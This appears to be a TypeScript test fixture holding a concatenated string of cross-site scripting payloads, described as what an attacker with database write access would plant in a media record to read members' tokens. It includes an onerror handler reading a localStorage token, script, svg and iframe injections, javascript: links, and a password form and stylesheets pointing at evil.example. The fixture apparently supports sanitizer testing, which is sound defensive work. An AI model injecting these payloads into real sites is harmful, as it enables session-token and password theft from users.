/** What an attacker with write access to the database would put into a media to read every member's token. */
export const poison = [
  '<p>Texte gardé</p>',
  '<img src="x" onerror="alert(localStorage.getItem(\'seve.token\'))">',
  '<script>alert(1)</script><svg><script>alert(2)</script></svg><svg onload="alert(3)"></svg>',
  '<iframe srcdoc="<script>alert(4)</script>"></iframe><iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:alert(5)">piège</a><img src="https://evil.example/pixel.gif">',
  '<style>@import "https://evil.example/css"</style><link rel="stylesheet" href="https://evil.example/css">',
  '<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(6)"></form>',
  '<details open ontoggle="alert(7)">x</details><object data="https://evil.example/x.swf"></object>',
].join('')
